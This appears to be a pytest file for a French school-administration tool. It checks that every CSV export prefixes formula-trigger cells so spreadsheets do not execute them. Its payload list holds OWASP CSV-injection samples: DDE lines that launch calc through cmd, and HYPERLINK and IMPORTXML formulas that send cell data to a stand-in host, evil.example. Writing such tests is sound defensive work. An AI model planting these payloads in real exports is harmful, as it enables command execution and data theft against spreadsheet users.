"""CSV formula injection: every CSV the tool writes neutralises cells a spreadsheet would run.

The payloads are OWASP's « CSV injection » examples. Each export is produced for real and
read back as a spreadsheet reads it: a cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return must arrive prefixed with ``'``.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from changeover_support import Academy, make_academy
from sqlalchemy import text, update
from template_support import copy_sample

from yearchange_tui.ent.csvfile import FORMULA_TRIGGERS, csv_bytes, safe_cell
from yearchange_tui.ent.models import Punishment, Sanction
from yearchange_tui.importing.models import AafImport, AafReject
from yearchange_tui.tui.rejects_source import RejectRow, export_csv
from yearchange_tui.workflow.models import Step

# OWASP CSV-injection payloads (plus the finding's own examples).
PAYLOADS = [
    "=2+5",
    "+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
]


def _read(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    body = data.decode("utf-8-sig")
    assert "\r\n" in body and "\n" not in body.replace("\r\n", "").replace("\r=1+1", "")
    return list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))


def _assert_neutralised(cells: list[str], payloads: list[str] = PAYLOADS) -> None:
    for payload in payloads:
        assert "'" + payload in cells, payload
    assert not [cell for cell in cells if cell and cell[0] in FORMULA_TRIGGERS]


def test_the_writer_prefixes_formulas_and_keeps_french_conventions() -> None:
    data = csv_bytes(["Motif", "Note"], [[payload, 12.5] for payload in PAYLOADS]
                     + [["Retard en cours", -3], [None, 0.25]])
    rows = _read(data)
    assert rows[0] == ["Motif", "Note"]
    _assert_neutralised([row[0] for row in rows[1:]])
    assert rows[1][1] == "12,5" and rows[-2] == ["Retard en cours", "-3"]
    assert rows[-1] == ["", "0,25"]
    assert safe_cell("Élève sans souci") == "Élève sans souci"


@pytest.fixture
def academy(database_url: str, tmp_path: Path) -> Iterator[Academy]:
    academy = make_academy(database_url, tmp_path / "storage")
    yield academy
    academy.database.dispose()


def _set_reasons(academy: Academy, model: type) -> list[str]:
    with academy.database.session() as session:
        ids = list(session.scalars(text(f"SELECT id FROM {model.__tablename__} ORDER BY id")))
        assert len(ids) >= 5, model
        for row_id, payload in zip(ids, PAYLOADS, strict=False):
            session.execute(update(model).where(model.id == row_id).values(reason=payload))
    return PAYLOADS[:len(ids)]


def test_step_2_school_life_and_sanctions_csv_neutralise_formulas(academy: Academy) -> None:
    sanction_payloads = _set_reasons(academy, Sanction)
    punishment_payloads = _set_reasons(academy, Punishment)
    runner = academy.runner()
    [outcome] = runner.run(Step.ARCHIVE, runner.establishments())
    assert outcome.status == "done"
    with academy.database.engine.connect() as connection:
        paths = dict(connection.execute(text(
            "SELECT archive_key, relative_path FROM archive_manifests")).all())
    sanctions = _read((academy.storage / paths["sanctions"]).read_bytes())
    _assert_neutralised([row[4] for row in sanctions[1:]], sanction_payloads)
    [punishments_zip] = [path for key, path in paths.items() if "punition" in key]
    with zipfile.ZipFile(academy.storage / punishments_zip) as archive:
        punishments = _read(archive.read("punitions.csv"))
    _assert_neutralised([row[4] for row in punishments[1:]], punishment_payloads)


def _reject_with_payloads(academy: Academy) -> None:
    from yearchange_tui.ent.base import utcnow

    with academy.database.session() as session:
        run = AafImport(started_at=utcnow(), finished_at=utcnow(), source="livraison",
                        source_kind="dossier", operator="test")
        session.add(run)
        session.flush()
        session.add_all(AafReject(
            import_id=run.id, uai="", code="AAF-INE-PARTAGE", severity="erreur",
            file_name="ENT_Eleve.xml", line=index + 1, record_id=f"{index}", kind="Eleve",
            request="", attribute="ENTEleveINE", raw_value=payload, message="Motif",
            action="Vérifier", raw_xml="") for index, payload in enumerate(PAYLOADS))


def test_rejects_csv_command_neutralises_formulas(academy: Academy) -> None:
    _reject_with_payloads(academy)
    result = subprocess.run(
        [sys.executable, "-m", "yearchange_tui", "--db", academy.url, "--storage",
         str(academy.storage), "rejects", "--all", "--csv"],
        capture_output=True, check=False)
    assert result.returncode == 0, result.stderr.decode()
    rows = _read(result.stdout)
    column = rows[0].index("valeur")
    _assert_neutralised([row[column] for row in rows[1:]])


def test_console_rejects_export_neutralises_formulas(tmp_path: Path) -> None:
    rows = [RejectRow(id=index, import_id=1, uai="0750654D", code="AAF-INE-PARTAGE",
                      severity="erreur", kind="Eleve", file_name="ENT_Eleve.xml", line=index,
                      record_id=payload, attribute="ENTEleveINE", raw_value=payload,
                      message="=1+1", action="@x", raw_xml="")
            for index, payload in enumerate(PAYLOADS)]
    path = export_csv(rows, tmp_path / "exports")
    read = _read(path.read_bytes())
    _assert_neutralised([row[7] for row in read[1:]])
    _assert_neutralised([row[9] for row in read[1:]])
    assert {row[10] for row in read[1:]} == {"'=1+1"}


def test_dry_run_warnings_report_neutralises_formulas(tmp_path: Path) -> None:
    import datetime as dt

    from yearchange_tui.changeover.dry_run import DryRunWarning, write_warnings_csv

    warnings = [DryRunWarning(uai="0750654D", name=payload, step=Step.PURGE_TRASH,
                              code="CORBEILLE-RECENTE", message=f"Rubrique « x » {payload}",
                              made_at=dt.datetime(2026, 7, 1, 9, 0))
                for payload in PAYLOADS]
    path = tmp_path / "rapport.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        assert write_warnings_csv(warnings, stream) == len(PAYLOADS)
    rows = _read(path.read_bytes())
    _assert_neutralised([row[1] for row in rows[1:]])


def test_the_sample_credentials_csv_comes_from_the_one_writer(tmp_path: Path) -> None:
    """The sample académie's credential files (what a school opens in Excel to hand out
    first passwords) are written like every other CSV: BOM, ``;``, CRLF."""
    out = copy_sample(tmp_path / "academie", 1, 5, 2025)
    files = sorted((out / "storage").rglob("*-identifiants-*.csv"))
    assert {path.name.split("-")[2] for path in files} == {"eleves", "parents"}
    for path in files:
        data = path.read_bytes()
        assert data.startswith(b"\xef\xbb\xbflogin;mot de passe provisoire\r\n")
        assert b"\n" not in data.replace(b"\r\n", b"")
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""),
                               delimiter=";"))
        assert len(rows) > 1 and all(len(row) == 2 and row[1].isdigit() for row in rows[1:])
